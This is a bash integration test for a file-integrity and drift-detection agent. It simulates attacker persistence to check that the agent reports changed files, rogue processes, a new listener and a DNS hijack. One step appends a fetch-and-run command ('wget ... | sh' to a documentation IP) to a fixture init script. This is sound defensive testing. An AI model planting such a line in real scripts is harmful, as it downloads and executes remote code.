#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# File baseline and drift end to end on loopback: khien-policy baseline
# records a fixture rootfs, khien-server publishes it in a signed bundle, a
# provisioned khiend (root, privilege-separated: an auditor process reads
# /etc/shadow) checks --audit-root against it. Then an attacker's steps:
# a changed init script (seen through inotify, without waiting for the
# interval), an added executable, a removed crontab, a changed mode, a
# process running from a deleted file in /tmp, a new listening port and a
# hijacked dnsmasq upstream: each reported once, and the server holds the
# events. A new signed baseline takes over without a restart. Then the
# same without privilege separation (slices on the loop), and on the live
# system: a real process running from a deleted file, a real listener.
. "$(dirname "$0")/lib.sh"
P=$KHIEN_BUILD/khien-policy
PORT=$(rand_port); UP=$((PORT + 1)); DNS=$((PORT + 2))
S=$T/srv
R=$T/root

"$FIX/audit/mkroot.sh" hardened $R || fail "fixture root"
mkdir -p $R/etc/init.d $R/etc/crontabs $R/etc/dropbear $R/usr/lib $R/tmp
printf '#!/bin/sh /etc/rc.common\nSTART=60\nstart() { dnsmasq; }\n' > $R/etc/init.d/dnsmasq
chmod 755 $R/etc/init.d/dnsmasq
echo '0 4 * * * /sbin/fstrim -a' > $R/etc/crontabs/root
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIsp isp@noc' > $R/etc/dropbear/authorized_keys
chmod 600 $R/etc/dropbear/authorized_keys
printf 'domain-needed\nserver=203.162.4.191\n' > $R/etc/dnsmasq.conf
printf '127.0.0.1 localhost\n' > $R/etc/hosts
printf '\x7fELF\x01' > $R/usr/lib/libc.so; echo 'not code' > $R/usr/lib/README

# ---- the tool ----
expect_rc "khien-policy baseline records the rootfs" 0 "$P" baseline --root $R --version 7 \
	-o $T/b.json --table $T/b.tbl
expect_eq "  /etc/shadow (root-only) hashed, owner named from etc/passwd" \
	"$(json_get $T/b.json '[(f["mode"], f["owner"], len(f["sha256"])) for f in d["files"] if f["path"] == "/etc/shadow"]')" \
	"[('0600', 'root', 64)]"
expect_eq "  a link records its target; executables and .so kept, data files in /usr/lib left out" \
	"$(json_get $T/b.json '[f["path"] + ("=" + f.get("target", "") if f["type"] == "link" else "") for f in d["files"] if f["path"].startswith(("/usr/lib/", "/bin/"))]')" \
	"['/bin/busybox', '/bin/sh=busybox', '/usr/lib/libc.so']"
expect_eq "  listeners from DIR/proc/net, dnsmasq upstreams" \
	"$(json_get $T/b.json 'sorted(d["listen"]), d["dns_servers"], d["version"]')" \
	"['tcp:22', 'tcp:443', 'tcp:53', 'tcp:80', 'udp:53'] ['203.162.4.191'] 7"
expect_rc "--from compiles the reviewed JSON into the same table" 0 "$P" baseline --from $T/b.json \
	--table $T/b2.tbl
expect_eq "  byte for byte (apart from the creation time)" \
	"$(python3 -c 'import sys; a, b = (open(f, "rb").read() for f in sys.argv[1:]); print(a[:40] == b[:40] and a[48:] == b[48:])' $T/b.tbl $T/b2.tbl)" "True"
python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); d["files"][0]["mode"]="0999"; json.dump(d, open(sys.argv[2], "w"))' $T/b.json $T/bad.json
"$P" baseline --from $T/bad.json --table $T/bad.tbl 2> $T/bad.err
expect_eq "a bad field is refused with its JSON path" "$(grep -o '\$.files\[0\].mode' $T/bad.err)" '$.files[0].mode'

# ---- the device ----
init_server $S $PORT || { fail "server init"; done_testing; }
"$SRV" provision --dir $S --device SN-INT-1 --group home -o $T/dev >/dev/null || fail "provision"
"$P" compile -q -o $T/idx --list malware=$FIX/lists/malware.hosts >/dev/null 2>&1
"$P" bundle --key $S/dev-keys/policy.key --version 1 --expires +30d --component blocklist=$T/idx \
	--component baseline=$T/b.tbl -o $T/p1 >/dev/null || fail "bundle with a baseline"
expect_rc "publish a bundle carrying the baseline" 0 "$SRV" publish --dir $S $T/p1
start_server $S || { fail "server starts"; done_testing; }
start_upstream $UP 1 || exit 1
chmod -R a+rX $T/dev
start_khiend -c $T/dev/khiend.json --listen 127.0.0.1:$DNS --upstream 127.0.0.1:$UP --user khien \
	--audit-root $R || { fail "khiend starts"; done_testing; }
expect_rc "first sync applies the policy" 0 ctl sync
wait_scan() { # N: until integrity run N is done
	for _ in $(seq 100); do
		[ "$(ctl integrity --json | json_get /dev/stdin 'd["integrity"]["run"]')" -ge "$1" ] 2>/dev/null && return 0
		sleep 0.1
	done
	return 1
}
wait_scan 1 || fail "the first scan ran"
ctl integrity --json > $T/i0.json
expect_eq "baseline version 7 in force, scanned in the auditor, nothing drifted (shadow read)" \
	"$(json_get $T/i0.json 'd["integrity"]["baseline"]["version"], d["integrity"]["where"], d["integrity"]["last_scan"]["mode"], len(d["integrity"]["drifts"]), d["integrity"].get("error")')" \
	"7 auditor full 0 None"
expect_eq "  khienctl integrity leaves a place for the firmware status" \
	"$(json_get $T/i0.json '"firmware" in d')" "True"
expect_rc "khienctl integrity exits 0 with no drift" 0 ctl integrity
r0=$(json_get $T/i0.json 'd["integrity"]["run"]')
sleep 3
expect_eq "  a scan's own reads do not wake the watch (no scan in 3 s)" \
	"$(ctl integrity --json | json_get /dev/stdin 'd["integrity"]["run"]')" "$r0"

# a changed init script, noticed through inotify (interval_s is an hour)
t0=$(date +%s.%N)
echo 'wget -qO- http://203.0.113.9/x | sh' >> $R/etc/init.d/dnsmasq
seen=
for _ in $(seq 60); do
	ctl integrity --json > $T/i1.json
	[ "$(json_get $T/i1.json 'len(d["integrity"]["drifts"])')" = 1 ] && { seen=1; break; }
	sleep 0.1
done
lat=$(python3 -c "import sys,time; print(round(time.time() - float(sys.argv[1]), 1))" $t0)
echo "# init script change reported after ${lat}s (an upper bound: the polling costs too)"
expect_eq "a changed init script is reported within 5 s, without a full scan" \
	"$seen $(python3 -c "print(float('$lat') < 5)") $(json_get $T/i1.json '[(x["type"], x["path"], x["what"], x["severity"]) for x in d["integrity"]["drifts"]], d["integrity"]["last_scan"]["mode"]')" \
	"1 True [('file_changed', '/etc/init.d/dnsmasq', 'size,hash', 'critical')] persistence"

# an added executable, a removed crontab, a changed mode
printf '\x7fELF\x02' > $R/usr/bin/.x; chmod 755 $R/usr/bin/.x
rm $R/etc/crontabs/root
chmod 4755 $R/bin/busybox
ctl integrity run --json > $T/i2.json
expect_eq "each drift reported, with what changed and its severity" \
	"$(json_get $T/i2.json 'sorted((x["type"], x["path"], x["what"], x["severity"]) for x in d["integrity"]["drifts"])')" \
	"[('file_added', '/usr/bin/.x', 'new', 'critical'), ('file_changed', '/bin/busybox', 'mode', 'high'), ('file_changed', '/etc/init.d/dnsmasq', 'size,hash', 'critical'), ('file_removed', '/etc/crontabs/root', 'removed', 'critical')]"
expect_eq "  the evidence says before and after" \
	"$(json_get $T/i2.json '[x["evidence"] for x in d["integrity"]["drifts"] if x["path"] == "/bin/busybox"]')" \
	"['mode 0755 -> 4755']"
expect_rc "khienctl integrity exits 1 while a drift is open" 1 ctl integrity
ctl integrity run >/dev/null
ctl events > $T/ev1.json
expect_eq "each reported once: a second scan adds no event" \
	"$(json_get $T/ev1.json 'sorted(e["name"] for e in d["events"] if e["type"].startswith("file_"))')" \
	"['/bin/busybox', '/etc/crontabs/root', '/etc/init.d/dnsmasq', '/usr/bin/.x']"

# persistence and malware signs
mkdir -p $R/proc/999; echo x > $R/proc/999/comm; ln -s '/tmp/.x (deleted)' $R/proc/999/exe
mkdir -p $R/proc/1001; ln -s /var/run/.bot $R/proc/1001/exe
python3 - $R/proc/net/tcp <<'PY'
import sys
with open(sys.argv[1], "a") as f:
    f.write("   9: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1999 1 0000000000000000 100 0 0 10 0\n")
PY
printf 'server=198.51.100.66\naddress=/bank.example/198.51.100.9\n' >> $R/etc/dnsmasq.conf
ctl integrity run --json > $T/i3.json
expect_eq "a process from a deleted file in /tmp and one in /var: critical, with the pid" \
	"$(json_get $T/i3.json 'sorted((x["path"], x["what"], x["severity"], x["evidence"]) for x in d["integrity"]["drifts"] if x["type"] == "process_suspicious")')" \
	"[('/tmp/.x (deleted)', 'deleted', 'critical', 'pid 999 runs /tmp/.x (deleted)'), ('/var/run/.bot', 'writable', 'critical', 'pid 1001 runs /var/run/.bot')]"
expect_eq "a listening socket not in the baseline" \
	"$(json_get $T/i3.json '[(x["path"], x["severity"]) for x in d["integrity"]["drifts"] if x["type"] == "socket_listening"]')" \
	"[('tcp:4444', 'high')]"
expect_eq "a new dnsmasq upstream and an address= override are a DNS hijack" \
	"$(json_get $T/i3.json '[x["evidence"] for x in d["integrity"]["drifts"] if x["type"] == "dns_hijack"]')" \
	"['dnsmasq upstreams and overrides now: 198.51.100.66,203.162.4.191,address=/bank.example/198.51.100.9; baseline: 203.162.4.191']"
expect_rc "a sync uploads the events" 0 ctl sync
"$SRV" events --dir $S > $T/srv.jsonl
expect_eq "the server holds each drift once, with path, what and evidence" \
	"$(python3 -c '
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
ev = [(e["type"], e["payload"].get("name"), e["payload"].get("reason")) for e in ev if e["type"] in ("file_changed", "file_added", "file_removed", "process_suspicious", "socket_listening", "dns_hijack")]
print(sorted(ev))' $T/srv.jsonl)" \
	"[('dns_hijack', 'dnsmasq', 'servers'), ('file_added', '/usr/bin/.x', 'new'), ('file_changed', '/bin/busybox', 'mode'), ('file_changed', '/etc/dnsmasq.conf', 'size,hash'), ('file_changed', '/etc/init.d/dnsmasq', 'size,hash'), ('file_removed', '/etc/crontabs/root', 'removed'), ('process_suspicious', '/tmp/.x (deleted)', 'deleted'), ('process_suspicious', '/var/run/.bot', 'writable'), ('socket_listening', 'tcp:4444', 'new')]"
expect_eq "  with their severity" \
	"$(python3 -c '
import json, sys
print(sorted({e["severity"] for e in map(json.loads, open(sys.argv[1])) if e["type"] in ("file_added", "process_suspicious", "dns_hijack")}))' $T/srv.jsonl)" \
	"['critical']"

# a restart does not report the open drifts again
n_open=$(json_get $T/i3.json 'len(d["integrity"]["drifts"])')
stop_khiend
start_khiend -c $T/dev/khiend.json --listen 127.0.0.1:$DNS --upstream 127.0.0.1:$UP --user khien \
	--audit-root $R || { fail "khiend restarts"; done_testing; }
wait_scan 1 || fail "the scan after the restart ran"
expect_eq "after a restart the drifts are open again, and none is reported a second time" \
	"$(ctl integrity --json | json_get /dev/stdin 'len(d["integrity"]["drifts"]), d["integrity"]["reported"]') $(ctl events | json_get /dev/stdin 'len([e for e in d["events"] if e["type"] in ("file_changed", "file_added", "file_removed", "process_suspicious", "socket_listening", "dns_hijack")])')" \
	"$n_open 0 0"

# a fixed file closes its drift; the agent never rewrites the baseline
chmod 755 $R/bin/busybox
ctl integrity run --json > $T/i4.json
expect_eq "a drift closes when the file is back" \
	"$(json_get $T/i4.json '[x for x in d["integrity"]["drifts"] if x["path"] == "/bin/busybox"], d["integrity"]["baseline"]["version"]')" \
	"[] 7"
chmod 4755 $R/bin/busybox
ctl integrity run --json > $T/i5.json
expect_eq "  and is reported again when it drifts again" \
	"$(json_get $T/i5.json 'd["integrity"]["reported"] - '$(json_get $T/i4.json 'd["integrity"]["reported"]')) $(ctl events | json_get /dev/stdin 'len([e for e in d["events"] if e["name"] == "/bin/busybox"])')" "1 1"

# a damaged table in a signed bundle: refused on the device, the previous one stays
head -c 100 $T/b.tbl > $T/short.tbl
"$P" bundle --key $S/dev-keys/policy.key --version 2 --expires +30d --component blocklist=$T/idx \
	--component baseline=$T/short.tbl -o $T/p2 >/dev/null
ctl policy apply $T/p2 >/dev/null
expect_eq "a truncated table is refused, baseline 7 stays" \
	"$(ctl integrity --json | json_get /dev/stdin 'd["integrity"]["baseline"]["version"]') $(grep -c 'baseline of the policy refused' $T/khiend.log)" "7 1"

# a new signed baseline, made from the device as it is now, takes over without a restart
rm -rf $R/proc/999 $R/proc/1001
"$P" baseline --root $R --version 8 -o $T/b8.json --table $T/b8.tbl >/dev/null
"$P" bundle --key $S/dev-keys/policy.key --version 3 --expires +30d --component blocklist=$T/idx \
	--component baseline=$T/b8.tbl -o $T/p3 >/dev/null
"$SRV" publish --dir $S $T/p3 >/dev/null
expect_rc "the sync applies the new baseline" 0 ctl sync
wait_scan $(($(json_get $T/i5.json 'd["integrity"]["run"]') + 1)) || fail "a scan after the new baseline"
sleep 0.3
ctl integrity --json > $T/i6.json
expect_eq "baseline 8 in force and no drift left" \
	"$(json_get $T/i6.json 'd["integrity"]["baseline"]["version"], d["integrity"]["drifts"]')" "8 []"

# a flood of dropped files: the reply and the open set stay bounded, the rest is counted
mkdir -p $R/usr/bin/flood
python3 - $R/usr/bin/flood <<'PY'
import os, sys
for i in range(3000):
    p = os.path.join(sys.argv[1], "b%04d" % i)
    open(p, "w").write("\x7fELF")
    os.chmod(p, 0o755)
PY
ctl integrity run --json > $T/flood.json; json_get $T/flood.json '"# %d drifts, %s"  % (len(d["integrity"]["drifts"]), d["integrity"]["last_scan"])'
expect_eq "3,000 added executables: at most 1,024 drifts open, the rest counted, khiend answers" \
	"$(json_get $T/flood.json '(lambda i: "%s %s %s" % (0 < len(i["drifts"]) <= 1025, len(i["drifts"]) + i["last_scan"]["skipped"] + i["last_scan"]["dropped"] >= 3001, i.get("error")))(d["integrity"])') $(ctl status >/dev/null && echo alive)" \
	"True True None alive"
expect_eq "  the scan is partial: one critical integrity_overflow, nothing closed by it" \
	"$(json_get $T/flood.json '(lambda i: "%s %s" % (i["last_scan"]["partial"], [x["severity"] for x in i["drifts"] if x["type"] == "integrity_overflow"]))(d["integrity"])')" \
	"True ['critical']"
rm -rf $R/usr/bin/flood
ctl integrity run --json > $T/flood2.json
expect_eq "  gone again: no drift" "$(json_get $T/flood2.json 'len(d["integrity"]["drifts"])')" "0"

# the engine itself cannot read what the auditor hashed
expect_eq "the engine runs as khien and cannot read /etc/shadow" \
	"$(ps -o user= -p $(engine_pid)) $(as_user khien cat $R/etc/shadow >/dev/null 2>&1 && echo readable || echo denied)" \
	"khien denied"
stop_khiend

# without privilege separation the engine scans in slices on its loop
start_khiend -c $T/dev/khiend.json --listen 127.0.0.1:$DNS --upstream 127.0.0.1:$UP --user "" \
	--audit-root $R || { fail "khiend starts without privilege separation"; done_testing; }
wait_scan 1 || fail "the in-process scan ran"
expect_eq "in-process: baseline 8, scanned on the loop, no drift" \
	"$(ctl integrity --json | json_get /dev/stdin 'd["integrity"]["baseline"]["version"], d["integrity"]["where"], d["integrity"]["drifts"]')" \
	"8 engine []"
echo '* * * * * /tmp/.x' > $R/etc/crontabs/root
for _ in $(seq 50); do
	[ "$(ctl integrity --json | json_get /dev/stdin 'len(d["integrity"]["drifts"])')" = 1 ] && break
	sleep 0.1
done
expect_eq "  a crontab written is noticed and reported" \
	"$(ctl integrity --json | json_get /dev/stdin '[(x["type"], x["path"], x["severity"]) for x in d["integrity"]["drifts"]]')" \
	"[('file_added', '/etc/crontabs/root', 'critical')]"
stop_khiend

# the live system: a real process run from a file in /tmp that is then deleted, and a real
# listening socket, seen through this host's /proc by the auditor (the process runs as the
# daemon's user: the auditor may read the exe link of its own user's processes only)
mkdir -p $T/w && echo a > $T/w/f
"$P" baseline --root / --watch $T/w --version 9 --table $T/live.tbl >/dev/null || fail "live baseline"
"$P" bundle --key $S/dev-keys/policy.key --version 4 --expires +30d --component blocklist=$T/idx \
	--component baseline=$T/live.tbl -o $T/p4 >/dev/null
cp /bin/sleep $T/.x && chmod 755 $T/.x
setpriv --reuid=khien --regid="$(id -g khien)" --clear-groups -- $T/.x 300 &
XPID=$! # setpriv execs: the pid is the process's
PIDS+=($XPID)
sleep 0.2
rm $T/.x
LPORT=$(rand_port)
python3 -c 'import socket,sys,time; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); time.sleep(300)' $LPORT &
PIDS+=($!)
for _ in $(seq 50); do grep -q ":$(printf %04X $LPORT) 00000000:0000 0A" /proc/net/tcp && break; sleep 0.1; done
# other users' processes (root's), which the auditor may not look at: the root parent lists them
cp /bin/sleep $T/rx && chmod 755 $T/rx
$T/rx 301 &
RPID=$!
PIDS+=($RPID)
mkdir -p $T/rw && cp /bin/sleep $T/rw/ry && chmod 755 $T/rw/ry
$T/rw/ry 302 &
YPID=$!
PIDS+=($YPID)
sleep 0.2
rm $T/rx
alive() { [ -e /proc/$1 ] && ! grep -q '^[0-9]* (.*) Z' /proc/$1/stat; }
rm -rf $T/state # the fixture's baseline would walk this host's /usr/lib
start_khiend -c $T/dev/khiend.json --listen 127.0.0.1:$DNS --upstream 127.0.0.1:$UP --user khien \
	--bundle $T/p4 --audit-root / || { fail "khiend starts on /"; done_testing; }
ctl integrity run --json > $T/live.json
expect_eq "a live process whose executable in /tmp was deleted is reported with its pid" \
	"$(json_get $T/live.json '[(x["what"], x["severity"]) for x in d["integrity"]["drifts"] if x["type"] == "process_suspicious" and x.get("pid") == '$XPID']')" \
	"[('deleted', 'critical')]"
expect_eq "a live listening socket opened after the baseline is reported" \
	"$(json_get $T/live.json '[x["severity"] for x in d["integrity"]["drifts"] if x["path"] == "tcp:'$LPORT'"]')" \
	"['high']"
expect_eq "a root process whose executable was deleted is reported (the root parent's list)" \
	"$(json_get $T/live.json '[(x["what"], "(uid 0, rx)" in x["evidence"]) for x in d["integrity"]["drifts"] if x.get("pid") == '$RPID']')" \
	"[('deleted', True)]"
expect_eq "a root process running from a writable directory is reported" \
	"$(json_get $T/live.json '[(x["what"], x["path"]) for x in d["integrity"]["drifts"] if x.get("pid") == '$YPID']')" \
	"[('writable', '$T/rw/ry')]"
alive $RPID && alive $YPID && alive $XPID && ok "kill_suspicious off: they are left running" ||
	fail "kill_suspicious off, but a process was stopped"
expect_eq "  and nothing was stopped" "$(json_get $T/live.json 'd["integrity"]["stopped"]')" "0"
stop_khiend

# a hostile engine against the real root parent: crafted process requests are bounded
PR=$KHIEN_BUILD/tests/khien-privsep-probe
probe() { "$PR" --state-dir $T/state --trust-root $T/dev/root.json --uid "$(id -u khien)" "$@"; }
probe "procs:$((RPID - 1))" raw:6: raw:6:00 raw:6:ffffffff raw:6:0000000000 raw:7:00 "kill-real:$RPID" >$T/probe.out 2>$T/probe.err ||
	{ fail "the probe runs"; cat $T/probe.out; }
line() { sed -n "${1}p" $T/probe.out; }
expect_eq "the process list: only pid, uid, comm, exe, deleted, ro and the exe's identity" \
	"$(line 1 | json_get /dev/stdin 'sorted(d), sorted(set(k for p in d["procs"] for k in p)), [(p["uid"], p["comm"], p["deleted"]) for p in d["procs"] if p["pid"] == '$RPID']')" \
	"['next', 'procs', 'rc', 'why'] ['comm', 'deleted', 'exe', 'id', 'pid', 'ro', 'uid'] [(0, 'rx', True)]"
expect_eq "  none of the daemon user's processes (the auditor sees those)" \
	"$(line 1 | json_get /dev/stdin '[p for p in d["procs"] if p["uid"] == '"$(id -u khien)"']')" "[]"
expect_eq "requests of the wrong size or an out-of-range pid are refused, not served" \
	"$(for i in 2 3 4 5 6; do line $i | json_get /dev/stdin 'd["rc"], "procs" in d'; done | tr '\n' ' ')" \
	"-22 False -22 False -22 False -22 False -22 False "
expect_eq "a stop request is refused while the signed baseline does not set kill_suspicious" \
	"$(line 7 | json_get /dev/stdin 'd["rc"], "kill_suspicious" in d["why"]')" "-1 True"
alive $RPID && ok "  the process runs on" || fail "  the process was stopped"
expect_eq "  the owner kept serving the hostile engine to its end" "$(line 8)" '{"serve": 0, "engine": 0}'

# kill_suspicious on (signed): the agent stops them through the root parent. In a PID
# namespace with its own /proc: there, this test's processes are the only ones to stop
"$P" baseline --root / --watch $T/w --version 10 --kill-suspicious --table $T/live-k.tbl >/dev/null || fail "live baseline with kill"
"$P" bundle --key $S/dev-keys/policy.key --version 5 --expires +30d --component blocklist=$T/idx \
	--component baseline=$T/live-k.tbl -o $T/p5 >/dev/null
mkdir -p $T/ro && cp /bin/sleep $T/ro/rz && cp /bin/sleep $T/rx2 && cp /bin/sleep $T/.x2 && chmod 755 $T/.x2
cat >$T/ns.sh <<NS
mount --bind $T/ro $T/ro && mount -o remount,bind,ro $T/ro || echo "cannot mount read-only"
$T/ro/rz 303 &
$T/rx2 305 &
$T/rw/ry 306 &
setpriv --reuid=khien --regid=$(id -g khien) --clear-groups -- $T/.x2 307 &
sleep 0.3
rm -f $T/rx2 $T/.x2
"$KHIEN_BUILD/khiend" -f --control $T/ctl.sock --state-dir $T/state -c $T/dev/khiend.json \
	--listen 127.0.0.1:$DNS --upstream 127.0.0.1:$UP --user khien --audit-root / &
wait
NS
CTL=$T/ctl.sock
unshare --pid --fork --mount --mount-proc --kill-child sh $T/ns.sh >$T/khiend.log 2>&1 &
KPID=$!
PIDS+=($KPID)
for _ in $(seq 100); do ctl status >/dev/null 2>&1 && break; sleep 0.05; done
nsalive() { pgrep -f "$1" >/dev/null; }
nsalive "rx2 305" && nsalive "ry 306" && nsalive "x2 307" && nsalive "rz 303" && ok "in its namespace: khiend and four suspicious processes" ||
	{ fail "namespace set-up"; cat $T/khiend.log; }
ctl policy apply $T/p5 >/dev/null || fail "the baseline with kill_suspicious applies"
ctl integrity run --json > $T/live-k.json
for _ in $(seq 30); do nsalive "rx2 305" || nsalive "ry 306" || nsalive "x2 307" || break; sleep 0.1; done
! nsalive "rx2 305" && ok "kill_suspicious on: the root process from a deleted file is stopped" || fail "root process not stopped"
! nsalive "ry 306" && ok "  the root process from a writable directory too" || fail "writable-dir process not stopped"
! nsalive "x2 307" && ok "  and the daemon user's own process (the auditor's report)" || fail "khien process not stopped"
nsalive "rz 303" && ok "a suspicious process whose executable is on a read-only mount is left alone" || fail "read-only process stopped"
grep -q "not stopped: pid [0-9]* runs a file of the read-only image" $T/khiend.log && ok "  with the reason logged" ||
	{ fail "  reason"; grep kill_suspicious $T/khiend.log | tail -5; }
expect_eq "  khienctl integrity counts the stops" "$(ctl integrity --json | json_get /dev/stdin 'd["integrity"]["stopped"] >= 3')" "True"
# unshare ignores SIGTERM while it waits: end the namespace through its init
kill -KILL "$(pgrep -P $KPID)" 2>/dev/null
wait $KPID 2>/dev/null

# a recycled pid: the engine names a pid whose executable is not the one reported
$T/rw/ry 304 &
QPID=$!
PIDS+=($QPID)
unshare -m sh -c "mount --bind $T/ro $T/ro && mount -o remount,bind,ro $T/ro && exec $T/ro/rz 308" &
ZPID=$!
PIDS+=($ZPID)
sleep 309 &
SPID=$!
PIDS+=($SPID)
sleep 0.3
probe "kill:$QPID:1:1" "kill:1:0:0" "kill-real:$ZPID" "kill-real:$SPID" >$T/probe2.out 2>$T/probe.err
line() { sed -n "${1}p" $T/probe2.out; }
expect_eq "a stop request for a pid running another executable is refused (a recycled pid)" \
	"$(line 1 | json_get /dev/stdin 'd["rc"], "another executable" in d["why"]')" "-116 True"
alive $QPID && ok "  and that process runs on" || fail "  a recycled pid was killed"
expect_eq "pid 1 is never stopped" "$(line 2 | json_get /dev/stdin 'd["rc"]')" "-1"
expect_eq "nor a process of the read-only image" "$(line 3 | json_get /dev/stdin 'd["rc"], "read-only" in d["why"]')" "-1 True"
alive $ZPID && ok "  it runs on" || fail "  stopped"
expect_eq "a process that is not suspicious by the owner's own reading is not stopped (the engine's word is not enough)" \
	"$(line 4 | json_get /dev/stdin 'd["rc"], "not suspicious" in d["why"]')" "-1 True"
alive $SPID && ok "  it runs on" || fail "  stopped"
probe "kill-real:$QPID" >$T/probe3.out 2>$T/probe.err
expect_eq "the suspicious process with its real identity is stopped" "$(head -1 $T/probe3.out | json_get /dev/stdin 'd["rc"]')" "0"
sleep 0.2
! alive $QPID && ok "  and it is gone" || fail "  still running"
kill $ZPID 2>/dev/null
done_testing
